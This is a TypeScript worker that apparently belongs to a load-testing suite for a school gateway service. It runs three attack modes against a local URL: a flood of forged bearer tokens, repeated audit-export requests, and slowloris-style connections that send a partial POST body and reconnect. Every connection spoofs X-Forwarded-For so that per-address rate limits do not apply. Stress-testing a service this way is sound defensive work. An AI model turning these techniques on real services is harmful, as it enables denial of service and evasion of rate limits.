// Started by load.ts as a separate process, so that the attack does not slow down the measurement.
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const [kind = '', url = '', count = '0', token = ''] = process.argv.slice(2);

/** A client address per connection, so that the limits per address have no effect. */
const addressOf = (index: number): string => `10.${(index >> 16) & 255}.${(index >> 8) & 255}.${index & 255}`;

const encode = (part: object): string => Buffer.from(JSON.stringify(part)).toString('base64url');

function makeUpToken(): string {
  return `${encode({ alg: 'RS256' })}.${encode({ sub: randomBytes(8).toString('hex') })}.c2lnbmF0dXJl`;
}

async function repeatRequest(index: number, path: string, makeToken: () => string, wait: number) {
  for (;;) {
    const headers = { authorization: `Bearer ${makeToken()}`, 'x-forwarded-for': addressOf(index) };
    await fetch(`${url}/gateway${path}`, { headers })
      .then((response) => response.arrayBuffer())
      .catch(() => undefined);
    await pause(wait);
  }
}

function holdSlowBody(index: number): void {
  const head = [
    'POST /gateway/schools HTTP/1.1',
    'Host: a',
    `Authorization: Bearer ${makeUpToken()}`,
    `X-Forwarded-For: ${addressOf(index)}`,
    'Content-Length: 1000',
  ];
  const socket = connect(Number(new URL(url).port), '127.0.0.1', () => {
    socket.write(`${head.join('\r\n')}\r\n\r\n{`);
  });
  socket.on('error', () => {}).resume();
  socket.once('close', () => setTimeout(() => holdSlowBody(index), 100));
}

for (let index = 0; index < Number(count); index += 1) {
  if (kind === 'tokens') void repeatRequest(index, '/session', makeUpToken, 500);
  else if (kind === 'exports')
    void repeatRequest(index, `/audit/export?to=${new Date().toISOString()}`, () => token, 1_000);
  else holdSlowBody(index);
}
console.log('started');
